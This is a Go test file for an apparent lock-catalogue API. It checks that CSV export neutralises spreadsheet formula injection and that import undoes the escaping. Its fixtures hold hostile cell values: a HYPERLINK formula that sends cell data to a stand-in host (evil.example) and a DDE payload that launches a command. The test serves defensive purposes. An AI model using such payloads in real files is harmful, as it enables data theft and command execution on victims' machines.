package api_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/lockscore/lockscore/internal/catalogue"
)

// A cell that a spreadsheet would run as a formula is exported with a
// leading ' (OWASP "CSV injection"); one that starts with ' already gets one
// more, and the CSV import takes one off, so the encoding can be undone
// (issue 12 #3).
func TestCSVFormulasAreNeutralised(t *testing.T) {
	h := sqliteHarness(t)
	hostile := map[string]string{
		"csv-eq":    `=HYPERLINK("http://evil.example/?x="&A1)`,
		"csv-plus":  "+cmd|' /C calc'!A0",
		"csv-minus": "-2+3",
		"csv-at":    "@SUM(1+1)",
		"csv-quote": "'already quoted",
	}
	for slug, model := range hostile {
		l := newLock(slug)
		l["model"] = model
		l["brand"] = "Formula"
		wantStatus(t, h.do("POST", "/api/v1/locks", l, h.auth()), 201)
	}
	for _, target := range []string{"/api/v1/locks?format=csv&brand=Formula&limit=all", "/api/v1/rankings?format=csv&brand=Formula&limit=all"} {
		rec := h.do("GET", target, nil)
		wantStatus(t, rec, 200)
		rows, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := map[string]int{}
		for i, name := range rows[0] {
			col[name] = i
		}
		found := 0
		for _, row := range rows[1:] {
			want, ok := hostile[row[col["slug"]]]
			if !ok {
				continue
			}
			found++
			if got := row[col["model"]]; got != "'"+want {
				t.Errorf("%s: model cell %q, want %q", target, got, "'"+want)
			}
		}
		if found != len(hostile) {
			t.Fatalf("%s: %d of %d hostile rows found:\n%s", target, found, len(hostile), rec.Body.String())
		}
	}

	// The other direction: the import takes one leading ' off each cell.
	body := "slug,brand,model,markets,form_factor,status,key_override,sources,data_confidence\r\n" +
		"csv-back-1,'=Acme,'=SUM(1),UK,deadbolt,current,independent,https://example.com/a,low\r\n" +
		"csv-back-2,Acme,''quoted,UK,deadbolt,current,independent,https://example.com/b,low\r\n"
	wantStatus(t, h.do("POST", "/api/v1/locks/import", body, h.auth(), "Content-Type: text/csv"), 200)
	for slug, want := range map[string][2]string{"csv-back-1": {"=Acme", "=SUM(1)"}, "csv-back-2": {"Acme", "'quoted"}} {
		r := decode[catalogue.LockRecord](t, h.do("GET", "/api/v1/locks/"+slug, nil))
		if r.Brand != want[0] || r.Model != want[1] {
			t.Errorf("%s imported as brand %q model %q, want %q %q", slug, r.Brand, r.Model, want[0], want[1])
		}
	}
}
